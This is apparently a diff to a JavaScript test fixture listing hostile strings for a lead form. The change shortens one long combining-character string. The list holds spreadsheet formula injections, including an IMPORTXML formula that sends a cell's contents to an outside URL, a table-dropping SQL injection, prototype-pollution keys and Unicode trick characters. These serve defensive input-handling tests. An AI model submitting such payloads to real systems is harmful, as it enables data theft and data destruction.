@@ -12,7 +12,7 @@ const AS_GIVEN = (
   '=HYPERLINK("http://x","y")¦=IMPORTXML("http://x/?"&A1,"//a")¦-2+3¦@SUM(1)¦\n=1¦ =1¦\u00a0=1¦＝1¦\'=1¦' +
   '+971 50 123 4567¦+971501234567¦0¦007¦1e309¦1e3¦2026-02-31¦2026-02-01¦TRUE¦NaN¦null¦undefined¦' +
   '"; drop table lead_form;--¦%00¦a@b.c, d@e.f¦% _ \\ * ( ) . , " \' &¦__proto__¦constructor¦' +
-  `right \u202e left¦zero\u200dwidth\u200b¦فاطمة الزهراء¦👩‍👩‍👧‍👦 İstanbul Straße¦${'x'.repeat(1001)}¦a${'\u0301'.repeat(5000)}`
+  `right \u202e left¦zero\u200dwidth\u200b¦فاطمة الزهراء¦👩‍👩‍👧‍👦 İstanbul Straße¦${'x'.repeat(1001)}¦a${'\u0301'.repeat(900)}`
 ).split('¦');
 
 /** Hostile strings. None may be refused, and none may be anything but text wherever it arrives. */
